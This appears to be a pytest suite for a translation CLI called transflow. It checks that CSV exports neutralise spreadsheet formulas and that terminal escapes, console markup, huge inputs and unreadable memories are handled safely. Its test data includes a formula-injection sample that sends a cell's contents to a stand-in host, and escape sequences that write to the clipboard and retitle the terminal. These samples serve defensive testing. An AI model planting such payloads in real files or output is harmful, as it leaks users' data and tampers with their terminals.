"""Hostile and huge input, second battery: spreadsheet formulas, terminal escapes, console markup,
quadratic paths, stale replays and unreadable memories."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

import polib
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from transflow import record, replay
from transflow.catalog import ALSO_PLACES, template_entries
from transflow.cli import main
from transflow.formats import Segmentation, parse_document
from transflow.po import parse_po_bytes
from transflow.segment import count_words

ENV = {"COLUMNS": "100", "NO_COLOR": "1"}
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b]52;c;aGVsbG8=\x07\x9b31m"


def invoke(runner: CliRunner, *args: str) -> tuple[int, str, str]:
    result = runner.invoke(main, list(args), env=ENV)
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError(f"transflow {' '.join(args)} raised {result.exception!r}") from result.exception
    return result.exit_code, result.stdout, result.stderr


def set_translations(po_file: Path, answers: dict[str, str]) -> None:
    po = polib.pofile(str(po_file))
    for entry in po:
        entry.msgstr = answers.get(entry.msgid, entry.msgstr)
    po.save()


def csv_rows(kit: Path) -> list[list[str]]:
    default = csv.field_size_limit(1 << 24)  # as an agency's tool reads a long paragraph
    try:
        return list(csv.reader(io.StringIO(kit.read_text(encoding="utf-8"))))
    finally:
        csv.field_size_limit(default)  # transflow must not depend on it


# ---------------------------------------------------------------------------
# spreadsheets

FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1)', "+33 1 23 45 67 89", "-2 degrees", "@SUM(A1)"]


def test_csv_cells_that_would_run_as_formulas_are_quoted_and_come_back_exact(
    make_project: Callable[..., Path], runner: CliRunner
) -> None:
    text = "".join(f"{line}\n\n" for line in FORMULAS) + "'=already quoted\n\n'Tis the season.\n"
    root = make_project({"a.txt": text}, languages=("fr",), unit="paragraph")
    invoke(runner, "update")
    po_file = root / "locales" / "fr" / "a.po"
    set_translations(po_file, {"+33 1 23 45 67 89": "=1+1", "'Tis the season.": "'Tis la saison."})
    assert invoke(runner, "export", "-l", "fr", "--format", "csv")[0] == 0
    kit = root / "kits" / "transflow-fr.csv"
    for row in csv_rows(kit)[1:]:
        for cell in row:
            assert not re.match(r"[=+\-@\t\r]", cell), cell  # nothing a spreadsheet would evaluate
    sources = [row[4] for row in csv_rows(kit)[1:]]
    assert sources[:4] == [f"'{line}" for line in FORMULAS]
    assert sources[4:] == ["''=already quoted", "'Tis the season."]
    # back as it went: every unit unchanged, the PO byte for byte the same
    before = po_file.read_bytes()
    code, out, _ = invoke(runner, "import", str(kit))
    assert code == 0 and "2 unchanged, 4 empty" in out and po_file.read_bytes() == before
    # a spreadsheet that saved the file dropped the quotes itself: the same units still match
    # (but a source that itself starts with "'=": dropped, its quote reads as a guard)
    rows = [row for row in csv_rows(kit) if row[4] != "''=already quoted"]
    for row in rows[1:]:
        row[:] = [cell[1:] if cell.startswith("'") and not cell.startswith("'Tis") else cell for cell in row]
        if row[4] == "-2 degrees":
            row[5] = "-2 degrés"
    out_text = io.StringIO()
    csv.writer(out_text).writerows(rows)
    kit.write_text(out_text.getvalue(), encoding="utf-8")
    code, out, _ = invoke(runner, "import", str(kit))
    assert code == 0 and "1 applied" in out, out
    entries = {entry.msgid: entry.msgstr for entry in polib.pofile(str(po_file))}
    assert entries["-2 degrees"] == "-2 degrés" and entries["+33 1 23 45 67 89"] == "=1+1"


def test_a_csv_field_longer_than_csvs_limit_round_trips(
    make_project: Callable[..., Path], runner: CliRunner
) -> None:
    paragraph = " ".join(["The workers will not pay for the crisis."] * 4000)  # 164 KB, one unit
    root = make_project({"a.txt": paragraph + "\n"}, languages=("fr",), unit="paragraph")
    invoke(runner, "update")
    assert invoke(runner, "export", "-l", "fr", "--format", "csv")[0] == 0
    kit = root / "kits" / "transflow-fr.csv"
    rows = csv_rows(kit)
    rows[1][5] = paragraph.replace("workers", "travailleurs")
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    kit.write_text(out.getvalue(), encoding="utf-8")
    code, out_text, err = invoke(runner, "import", str(kit))
    assert (code, err) == (0, "") and "1 applied" in out_text


def test_a_csv_that_cannot_be_read_is_one_line_and_nothing_written(
    make_project: Callable[..., Path], runner: CliRunner
) -> None:
    root = make_project({"a.txt": "Hands off!\n"}, languages=("fr",))
    invoke(runner, "update")
    invoke(runner, "export", "-l", "fr", "--format", "csv")
    kit = root / "kits" / "transflow-fr.csv"
    kit.write_text(
        kit.read_text(encoding="utf-8").replace(",Hands off!,", ',"Hands" off!,'), encoding="utf-8"
    )
    before = (root / "locales" / "fr" / "a.po").read_bytes()
    code, _, err = invoke(runner, "import", str(kit))
    assert code == 1
    assert err.count("\n") == 1 and err.startswith(f"error: {kit}:2: not CSV a kit can be read from")
    assert (root / "locales" / "fr" / "a.po").read_bytes() == before


# ---------------------------------------------------------------------------
# terminals


def test_escape_sequences_in_others_text_never_reach_the_terminal(
    make_project: Callable[..., Path], runner: CliRunner
) -> None:
    root = make_project({"a.txt": "Hands off!\n\nThe strike goes on.\n"}, languages=("fr",))
    invoke(runner, "update")
    po_file = root / "locales" / "fr" / "a.po"
    set_translations(po_file, {"Hands off!": f"Bas les pattes !{ESCAPES}"})
    git = ["git", "-c", f"user.name=Eve{ESCAPES}", "-c", "user.email=e@x.invalid"]
    subprocess.run(["git", "init", "-q"], cwd=root, check=True)
    subprocess.run([*git, "add", "-A"], cwd=root, check=True)
    subprocess.run([*git, "commit", "-qm", f"subject{ESCAPES}"], cwd=root, check=True)
    outputs = []
    for command in (
        ["status", "a.txt", "-l", "fr"],
        ["check", "-l", "fr"],
        ["log", "a.txt", "-l", "fr"],
        ["review", "a.txt", "-l", "fr", "--approve", "--by", f"Eve{ESCAPES}"],
        ["status", "a.txt", "-l", "fr", "--json"],
    ):
        _, out, err = invoke(runner, *command)
        outputs.append(out + err)
    seen = "".join(outputs)
    assert "owned" in seen and "Eve" in seen  # the text is shown...
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", seen)  # ...but no control character of it
    assert "\\u001b]52;c;" in outputs[-1] and "\\u009b31m" in outputs[-1]  # JSON keeps the data, escaped
    assert any(ESCAPES in text for text in _strings(json.loads(outputs[-1])))


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        value = list(value.values())
    return [text for item in value for text in _strings(item)] if isinstance(value, list) else []


def test_console_markup_in_paths_and_texts_is_printed_as_it_is(
    make_project: Callable[..., Path], runner: CliRunner
) -> None:
    root = make_project({"x[/y].txt": "Quote: [/quote] and [bold]this[/bold].\n"}, languages=("fr",))
    code, out, err = invoke(runner, "update")
    assert code == 0 and err == "" and "x[/y].txt" in out
    code, out, _ = invoke(runner, "status", "x[/y].txt", "-l", "fr")
    assert code == 0 and "[/quote] and [bold]this[/bold]" in " ".join(out.split())
    assert (root / "locales" / "fr" / "x[").is_dir()


# ---------------------------------------------------------------------------
# linear paths (sizes a linear path reads in well under a second; the quadratic ones took minutes)


def _timed(work: Callable[[], object]) -> float:
    started = time.perf_counter()
    work()
    return time.perf_counter() - started


def test_thousands_of_comment_lines_read_in_linear_time() -> None:
    lines = 40_000
    body = "".join(f"# translator note {i}\n#. extracted {i}\n#: a.txt:{i}\n" for i in range(lines))
    raw = (
        f'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n\n{body}msgid "a"\nmsgstr "b"\n'
    )
    seconds = _timed(lambda: parse_po_bytes(raw.encode("utf-8"), "x.po"))
    (entry,) = parse_po_bytes(raw.encode("utf-8"), "x.po").entries
    assert len(entry.translator_comments) == len(entry.extracted_comments) == len(entry.references) == lines
    assert seconds < 3, f"{seconds:.1f} s for {3 * lines} comment lines"


def test_a_text_repeated_many_times_makes_one_entry_in_linear_time() -> None:
    repeated = 20_000
    document = parse_document(("Hands off!\n\n" * repeated).encode(), "a.txt", Segmentation())
    seconds = _timed(lambda: template_entries(document))
    (entry,) = template_entries(document)
    assert len(entry.references) == repeated
    assert entry.extracted_comments[0].count("; also ") == ALSO_PLACES
    assert entry.extracted_comments[0].endswith(f"; and {repeated - 1 - ALSO_PLACES} more")
    assert seconds < 1, f"{seconds:.1f} s for {repeated} repetitions"


@pytest.mark.parametrize("run", ["=", ".", "_", "-", "=."])
def test_word_counts_of_long_runs_without_letters_take_linear_time(run: str) -> None:
    text = run * (200_000 // len(run)) + " a word"
    count_words.cache_clear()
    seconds = _timed(lambda: count_words(text))
    assert count_words(text) == 2
    assert seconds < 1, f"{seconds:.1f} s for {len(text)} characters"


_HAS_LETTER = re.compile(r"[^\W_]")


@settings(max_examples=500, deadline=None)
@given(st.text(st.sampled_from(list("ab9_=.-/ \t\n\u00a0\u2003é")), max_size=30))
def test_word_count_is_the_tokens_holding_a_letter_or_digit(text: str) -> None:
    count_words.cache_clear()
    assert count_words(text) == sum(1 for token in text.split() if _HAS_LETTER.search(token))


# ---------------------------------------------------------------------------
# replays as safe as a full run

RACY_NS = 300_000_000


@pytest.fixture
def still(make_project: Callable[..., Path], monkeypatch: pytest.MonkeyPatch) -> Path:
    root = make_project({"a.txt": "Hands off!\n"}, languages=("fr",))
    (root / ".transflow").mkdir()
    (root / "locales" / "fr").mkdir(parents=True)
    (root / "locales" / "fr" / "a.po").write_text('msgid ""\nmsgstr ""\n', encoding="utf-8")
    monkeypatch.setattr(record, "_outside_paths", lambda root: iter(()))
    monkeypatch.setattr(replay, "RACY_NS", RACY_NS)
    return root


def _age(root: Path) -> None:
    then = time.time_ns() - 60 * 1_000_000_000
    for path in [root, *root.rglob("*")]:
        os.utime(path, ns=(then, then), follow_symlinks=False)
    time.sleep(RACY_NS * 1.2 / 1e9)


def _keep(root: Path, started: int | None = None) -> bool:
    moment = time.time_ns() if started is None else started
    return record.keep(str(root), "key", b"out\n", b"", 0, moment)


def test_a_linked_config_that_changes_is_seen(still: Path) -> None:
    shared = still.parent / "shared.toml"
    shutil.move(still / "transflow.toml", shared)
    (still / "transflow.toml").symlink_to(shared)
    _age(still)
    os.utime(shared, ns=(time.time_ns() - 60_000_000_000,) * 2)
    time.sleep(RACY_NS * 1.2 / 1e9)
    assert _keep(still)
    assert replay.replayed(str(still), "key") is not None
    with shared.open("a", encoding="utf-8") as handle:
        handle.write('unit = "paragraph"\n')
    assert replay.replayed(str(still), "key") is None


def test_a_copy_that_keeps_its_mtime_during_a_run_is_not_kept(still: Path, tmp_path: Path) -> None:
    _age(still)
    started = time.time_ns()
    copy = tmp_path / "copy.po"
    copy.write_text('msgid ""\nmsgstr "x"\n', encoding="utf-8")
    os.utime(copy, ns=(started - 60_000_000_000,) * 2)
    shutil.copy2(copy, still / "locales" / "fr" / "a.po")  # cp -p: an old mtime, a new ctime
    assert (still / "locales" / "fr" / "a.po").stat().st_mtime_ns < started - RACY_NS
    assert not _keep(still, started)


def test_a_temp_file_left_in_the_tree_means_full_runs_until_it_is_cleaned(still: Path) -> None:
    (still / "locales" / "fr" / ".a.po.abcd1234.tmp").write_text("half", encoding="utf-8")
    _age(still)
    assert not _keep(still)


# ---------------------------------------------------------------------------
# memories and XML that cannot be read


def _memory_project(make_project: Callable[..., Path], memory: bytes, name: str) -> Path:
    root = make_project({"a.txt": "Hands off!\n"}, languages=("fr",))
    with (root / "transflow.toml").open("a", encoding="utf-8") as handle:
        handle.write(f'memory = ["{name}"]\n')
    (root / name).write_bytes(memory)
    return root


@pytest.mark.parametrize(
    ("name", "memory", "said"),
    [
        ("fr.po", b'msgid "a"\nmsgstr "b\n', "fr.po:2"),
        ("fr.tmx", b"<tmx><body>", "fr.tmx: XML that cannot be read"),
        ("fr.tmx", b'<?xml version="1.0" encoding="x-mac-roman2"?><tmx/>', "fr.tmx: XML in an encoding"),
    ],
)
def test_an_unreadable_memory_is_named_by_every_command(
    make_project: Callable[..., Path], runner: CliRunner, name: str, memory: bytes, said: str
) -> None:
    root = _memory_project(make_project, memory, name)
    for command in (["update"], ["analyze"], ["memory", "export", "-l", "fr", "--tmx", "out.tmx"]):
        code, _, err = invoke(runner, *command)
        assert code == 1, command
        assert said in err and err.count("\n") == 1, (command, err)
    assert (root / "locales" / "fr" / "a.po").is_file()  # the update itself went on


def test_a_kit_in_an_unknown_encoding_is_one_line(
    make_project: Callable[..., Path], runner: CliRunner
) -> None:
    root = make_project({"a.txt": "Hands off!\n"}, languages=("fr",))
    invoke(runner, "update")
    kit = root / "kit.xlf"
    kit.write_bytes(b'<?xml version="1.0" encoding="x-mac-roman2"?><xliff/>')
    code, _, err = invoke(runner, "import", str(kit), "-l", "fr")
    assert code == 1 and "XML in an encoding that cannot be read" in err and err.count("\n") == 1
